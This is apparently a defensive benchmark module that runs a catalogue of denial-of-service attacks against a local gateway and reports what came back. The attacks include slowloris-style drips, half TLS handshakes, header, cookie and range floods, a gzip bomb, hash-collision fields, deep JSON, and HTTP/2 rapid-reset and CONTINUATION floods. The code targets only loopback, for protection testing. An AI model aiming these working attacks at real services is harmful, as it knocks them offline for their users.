"""Attackers: what one abuser, or many, can do to the gateway to keep others from being served.

    python -m benchmarks.protection.attackers NAME PORT FORECAST EVENT SECONDS

runs one attack of `ATTACKS` against the gateway at this port of loopback, and at its end prints a
JSON object of what was done and what came back, counted, and the processor's time that it took.
FORECAST and EVENT are files with a benign JSON body each.

slowhttptest opens no connection again that the gateway has closed, and comes from one address, as
h2load does, which neither changes a header from request to request nor ends in time where the
server hangs up. All of that is what is tried here.
"""

import asyncio
import gzip
import http.client
import itertools
import json
import os
import random
import re
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import closing, suppress
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from benchmarks.protection.raw_requests import form, written
from kalecast.protocols.sockets import MOST_FILES, allow_many_connections

NAME = "localhost"
MOST_A_SECOND = 1500
"""Requests: what one abuser's line and machine give, and two cores shared with the victim allow."""
CONNECTING_A_SECOND = 400
"""TLS handshakes; each costs the attacker more than the gateway."""
SPARE_FILES = 500
ANSWER_SECONDS = 10
NICENESS = 10
HTTP1, HTTP2 = ("http/1.1",), ("h2",)

API, EVENT = "/api/forecast", "/gradio_api/run/predict"
UPLOAD, ICON = "/gradio_api/upload?upload_id=x", "/favicon.ico"
JSON, FORM = "application/json", "multipart/form-data; boundary=x"
FIELDS = "application/x-www-form-urlencoded"

MANY = 1_000_000
"""Connections: as many as a process may have."""
COOKIES = "Cookie: " + "; ".join(["a="] * 1990) + "\r\n"
RANGES = "Range: bytes=" + ",".join(f"0-{at}" for at in range(1000)) + "\r\n"
PROMISE = "Content-Length: 1099511627776\r\n"
ARGUMENTS = {"history": "1,2,3", "x": ["select a"] * 990}
LARGE_TOKEN = {"path": "kalecast-table-1." + "A" * 4_000_000}

type Reader = asyncio.StreamReader
type Writer = asyncio.StreamWriter


@dataclass
class Target:
    """What is attacked, and what is known of it."""

    port: int
    forecast: bytes
    """A benign body of /api/forecast, and of the page's event."""
    event: bytes
    ends: float
    """When the attack is over, on the machine's monotonic clock."""
    seen: Counter[str] = field(default_factory=Counter)


type Act = Callable[[Target, Reader, Writer], Awaitable[None]]
"""What is done on a connection, until it is over or the gateway closes it."""


@dataclass(frozen=True)
class Attack:
    """Connections on each of which something is done; for each that is lost comes another."""

    begin: Callable[[Target], Act]
    connections: int = 4000
    """At the same time."""
    rate: float = CONNECTING_A_SECOND
    """Connections that are opened a second."""
    addresses: int = 1
    """From which they come, in turn."""
    protocol: tuple[str, ...] = HTTP1
    """Of TLS; none for none."""
    window: int = 0
    """Bytes that the kernel takes in unread; 0 for as many as it likes."""


async def run(attack: Attack, target: Target) -> None:
    """Attack until it is over."""
    act = attack.begin(target)
    free = asyncio.Semaphore(
        min(attack.connections, allow_many_connections(MOST_FILES) - SPARE_FILES)
    )

    async def live(source: str) -> None:
        try:
            reader, writer = await _connect(attack, target.port, source)
        except (OSError, EOFError):
            target.seen["not opened"] += 1
            return
        target.seen["opened"] += 1
        try:
            await act(target, reader, writer)
        except (OSError, EOFError, ValueError, asyncio.LimitOverrunError):
            pass  # an answer that ended half-way is none
        finally:
            if target.ends - time.monotonic() > 0.1:
                target.seen["closed by the gateway"] += 1
            writer.transport.abort()

    # A gateway that hangs up while something is being sent is no news.
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
    began = time.monotonic()
    with suppress(TimeoutError):
        async with asyncio.timeout(target.ends - began), asyncio.TaskGroup() as group:
            for number in itertools.count():
                await asyncio.sleep(max(0.0, began + number / attack.rate - time.monotonic()))
                await free.acquire()
                at = 1 + number % attack.addresses
                task = group.create_task(live(f"127.66.{at >> 8}.{at & 255}"))
                task.add_done_callback(lambda _: free.release())


async def _connect(attack: Attack, port: int, source: str) -> tuple[Reader, Writer]:
    plain = socket.socket()
    plain.setblocking(False)
    try:
        if attack.window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.window)
        plain.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
        return await asyncio.open_connection(
            sock=plain,
            ssl=_trusting_anybody(attack.protocol) if attack.protocol else None,
            server_hostname=NAME if attack.protocol else None,
            limit=attack.window or 65536,
        )
    except BaseException:
        plain.close()
        raise


@cache
def _trusting_anybody(protocols: tuple[str, ...]) -> ssl.SSLContext:
    """What an attacker uses, who does not care whom it talks to."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context


# Connections that are held.


async def wait(_: Target, reader: Reader, __: Writer) -> None:
    """Do nothing until the gateway closes the connection."""
    while await reader.read(65536):
        pass


def pour(pieces: Callable[[], Iterator[bytes]], pause: float) -> Act:
    """Send one piece after another, until the gateway has closed its side."""

    async def act(target: Target, reader: Reader, writer: Writer) -> None:
        async def send() -> None:
            for piece in pieces():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(pause)

        sending = asyncio.ensure_future(send())
        try:
            await wait(target, reader, writer)
        finally:
            sending.cancel()
            with suppress(asyncio.CancelledError, OSError):
                await sending

    return act


def drip(first: bytes, more: bytes, pause: float) -> Act:
    """Send something, and then more and more of it."""
    return pour(lambda: itertools.chain([first], itertools.repeat(more)), pause)


async def half_a_handshake(target: Target, reader: Reader, writer: Writer) -> None:
    """Begin one by hand, and leave it."""
    outgoing, context = ssl.MemoryBIO(), _trusting_anybody(HTTP2)
    greeting = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=NAME)
    with suppress(ssl.SSLWantReadError):
        greeting.do_handshake()
    writer.write(outgoing.read())
    await wait(target, reader, writer)


async def read_slowly(_: Target, reader: Reader, writer: Writer) -> None:
    """Ask for one document after another, and take in hardly anything of them."""
    writer.write(request("/api/example.csv") * 20)
    while await reader.read(10):
        await asyncio.sleep(2)


def held(act: Act, **options: Any) -> Attack:
    """Connections that are held."""
    return Attack(lambda _: act, **options)


HEAD = f"POST {API} HTTP/1.1\r\nHost: {NAME}\r\n".encode()


def slow_body(path: str, kind: str = JSON, size: int = 4000) -> Act:
    """A byte of a body a second."""
    return drip(request(path, b"x" * size, kind=kind)[:-size], b"1", 1)


# Requests.

type Requests = Callable[[Target], Iterator[bytes]]
"""What is sent on all connections together, in turn."""


def request(
    path: str, body: bytes = b"", method: str = "", headers: str = "", kind: str = JSON
) -> bytes:
    """A whole request as a program sends it; `headers` are further lines."""
    client = {"User-Agent": "curl/8.5.0", "Accept": "*/*"}
    method, kind = method or ("POST" if body else "GET"), kind if body else ""
    whole = written(method, path, client, body, kind)
    return whole.replace(b"\r\n", f"\r\n{headers}".encode(), 1)


def flood(
    requests: Requests,
    rate: float = MOST_A_SECOND,
    connections: int = 32,
    **options: Any,
) -> Attack:
    """Requests, so many a second, over connections that are opened again where they are closed."""

    def begin(target: Target) -> Act:
        shared = requests(target)

        async def act(target: Target, reader: Reader, writer: Writer) -> None:
            while True:
                turn = time.monotonic() + connections / rate
                async with asyncio.timeout(ANSWER_SECONDS):
                    target.seen["sent"] += 1
                    writer.write(next(shared))
                    await writer.drain()
                    target.seen[await _answer(reader)] += 1
                await asyncio.sleep(max(0.0, turn - time.monotonic()))

        return act

    return Attack(begin, connections, **options)


async def _answer(reader: Reader) -> str:
    """Read a whole answer; returns its status."""
    head = await reader.readuntil(b"\r\n\r\n")
    if length := re.search(rb"(?i)\r\ncontent-length: (\d+)", head):
        await reader.readexactly(int(length[1]))
    elif b"chunked" in head:
        while size := int(await reader.readline(), 16):
            await reader.readexactly(size + 2)
        await reader.readline()
    return head[9:12].decode()


def same(path: str, make: Callable[[Target], bytes] = lambda _: b"", **options: Any) -> Requests:
    """One request again and again, whose body is made as the attack begins."""
    return lambda target: itertools.repeat(request(path, make(target), **options))


def numbered(path: str) -> Requests:
    """An address that differs each time by a number."""
    return lambda _: (request(path.format(number)) for number in itertools.count())


def false_keys(more: str = "") -> Requests:
    """Forecasts, each with another key that was made up."""

    def requests(target: Target) -> Iterator[bytes]:
        while True:
            key = f"Authorization: Bearer kalecast_x_{random.getrandbits(170):043x}\r\n"
            yield request(API, target.forecast, headers=key + more)

    return requests


def changed_event(*values: tuple[int, Any]) -> Callable[[Target], bytes]:
    """The page's event, with other values at some places."""

    def make(target: Target) -> bytes:
        event = json.loads(target.event)
        for at, value in values:
            event["data"][at] = value
        return json.dumps(event).encode()

    return make


def forecast(target: Target) -> bytes:
    """The benign body of /api/forecast."""
    return target.forecast


def large_upload(_: Target) -> bytes:
    """A file of 20 MB."""
    return form({"a.csv": b"unique_id,ds,y\n" + b"1,2026-01-01,3\n" * 1_330_000}, "x")


def many_parts(_: Target) -> bytes:
    """Five thousand files."""
    return form({f"a{number}.csv": b"1" for number in range(5000)}, "x")


def colliding_fields(_: Target) -> bytes:
    """Tens of thousands of parameters, made to collide in a poor hash."""
    fields = "&".join("".join(parts) for parts in itertools.product(("Aa", "BB"), repeat=15))
    return fields.encode()[:500_000]


def bomb(_: Target) -> bytes:
    """400 MB that arrive as 400 KB."""
    return gzip.compress(b"1," * 200_000_000, 9)


def lines(count: int, length: int) -> str:
    """Header lines that are not listed, so that all signatures look at the request."""
    return "".join(f"X-{at}: {'a' * length}\r\n" for at in range(count))


def packed_script(target: Target) -> Iterator[bytes]:
    """The page's largest script, packed anew for each request unless the gateway keeps it."""
    context = _trusting_anybody(HTTP1)
    connection = http.client.HTTPSConnection("127.0.0.1", target.port, context=context)
    with closing(connection):
        connection.request("GET", "/", headers={"Host": NAME})
        (name, *_) = re.findall(r"assets/[\w.-]+\.js", connection.getresponse().read().decode())
    return itertools.repeat(request(f"/{name}", headers="Accept-Encoding: gzip\r\n"))


# HTTP/2.


def streams(make: Callable[[int], Sequence[Frame]], rate: float, batch: int = 50) -> Act:
    """Send what `make` makes of each stream's number, without waiting for anything."""

    def pieces() -> Iterator[bytes]:
        yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()
        for number in itertools.count(0, batch):
            frames = [frame for at in range(batch) for frame in make(1 + 2 * (number + at))]
            yield b"".join(frame.serialize() for frame in frames)

    return pour(pieces, batch / rate)


def head(path: str, stream: int, *flags: str, method: str = "GET", **fields: str) -> HeadersFrame:
    """A stream's first frame, of a table of its own: the same bytes for each stream."""
    known = {":method": method, ":scheme": "https", ":path": path, ":authority": NAME}
    block = Encoder().encode([*known.items(), *fields.items()])
    return HeadersFrame(stream, block, flags=flags or ("END_HEADERS", "END_STREAM"))


def endless_head(stream: int) -> list[Frame]:
    """Its beginning, and then more and more of it."""
    more = ContinuationFrame(1, Encoder().encode([("x-a", "b" * 400)]))
    return [head("/", 1, "END_STREAM"), more] if stream == 1 else [more]


def unfinished_forecast(stream: int) -> list[Frame]:
    """Its head without its body."""
    return [head(API, stream, "END_HEADERS", method="POST", **{"content-type": JSON})]


def reset_at_once(stream: int) -> list[Frame]:
    """A stream that is opened and given up."""
    return [head(ICON, stream), RstStreamFrame(stream, error_code=8)]


ATTACKS: dict[str, Attack] = {
    "slow_heads": held(drip(HEAD, b"X-A: a\r\n", 3)),
    "slow_heads_of_many": held(drip(HEAD, b"X-A: a\r\n", 3), addresses=1000),
    "silent_connections": held(wait, connections=MANY, protocol=(), rate=3000),
    "half_handshakes": held(half_a_handshake, connections=8000, protocol=(), rate=1000),
    "idle_connections": held(wait, connections=8000),
    "idle_connections_of_many": held(wait, connections=8000, addresses=1000),
    "plain_to_tls": held(
        drip(request("/"), b"", 1), connections=200, protocol=(), rate=MOST_A_SECOND
    ),
    "slow_forecasts": held(slow_body(API), connections=2000),
    "slow_events": held(slow_body(EVENT), connections=2000),
    "slow_uploads": held(slow_body(UPLOAD, FORM, 20_000_000), connections=2000, addresses=200),
    "slow_reading": held(read_slowly, connections=2000, addresses=5, window=2048),
    # Heads that are too much.
    "many_headers": flood(same(API, forecast, headers=lines(200, 60))),
    "large_headers": flood(same(API, forecast, headers=lines(5, 8000)), 500),
    "endless_headers": held(drip(HEAD, b"X-A: b\r\n" * 50, 0.01), connections=200, rate=200),
    "many_cookies": flood(same(API, forecast, headers=COOKIES * 3), 500),
    # One client at fifty times its limit, or as fast as it can.
    "forecasts": flood(same(API, forecast), 1000),
    "forecasts_with_false_keys": flood(false_keys()),
    "events": flood(same(EVENT, changed_event()), 250),
    "documents": flood(numbered("/?ref={}"), 250),
    "uploads": flood(same(UPLOAD, large_upload, kind=FORM), 50, 8),
    "unlisted": flood(numbered("/wp-admin/{}.php")),
    "assets": flood(numbered("/assets/a{}.js")),
    "packed_assets": flood(packed_script, 500),
    # What costs signatures most.
    "open_heads": flood(same(API, forecast, headers=lines(1, 400)), 1000),
    "open_heads_with_false_keys": flood(false_keys("X-A: b\r\n"), 1000),
    "open_assets": flood(same(ICON, headers=lines(20, 300))),
    "long_words": flood(same(EVENT, changed_event((4, "select from (the) 'words' " * 2400))), 250),
    "many_arguments": flood(same(API, lambda _: json.dumps(ARGUMENTS).encode()), 1000),
    "deep_json": flood(same(API, lambda _: b"[" * 100_000 + b"]" * 100_000), 200),
    "many_fields": flood(same(API, colliding_fields, kind=FIELDS), 200),
    "many_parts": flood(same(UPLOAD, many_parts, kind=FORM), 50),
    "large_tokens": flood(same(EVENT, changed_event((0, "Your file"), (2, LARGE_TOKEN))), 50, 8),
    "bombs": flood(same(API, bomb, headers="Content-Encoding: gzip\r\n"), 100),
    "promised_bodies": flood(same(UPLOAD, method="POST", headers=PROMISE), 500),
    "ranges": flood(same(ICON, headers=RANGES)),
    # HTTP/2.
    "rapid_reset": held(streams(reset_at_once, 2000), connections=5, protocol=HTTP2),
    "many_streams": held(streams(lambda at: [head(ICON, at)], 300), connections=5, protocol=HTTP2),
    "unfinished_streams": held(streams(unfinished_forecast, 60, 5), connections=50, protocol=HTTP2),
    "continuations": held(streams(endless_head, 400), connections=5, protocol=HTTP2),
    "settings_and_pings": held(
        streams(lambda _: [SettingsFrame(0), PingFrame(0, b"whoareu?")], 3000),
        connections=5,
        protocol=HTTP2,
    ),
    # Many, each within its limit: this is capacity, and no abuser.
    "five_hundred_customers": flood(
        same(API, forecast, headers=lines(1, 400)), connections=500, addresses=500
    ),
}


def main() -> int:
    """Attack, and print what came of it."""
    name, port, *bodies, seconds = sys.argv[1:6]
    os.nice(NICENESS)
    forecast_body, event_body = (Path(body).read_bytes() for body in bodies)
    target = Target(int(port), forecast_body, event_body, time.monotonic() + float(seconds))
    asyncio.run(run(ATTACKS[name], target))
    print(json.dumps({"cpu": round(time.process_time(), 2), "seen": dict(target.seen)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
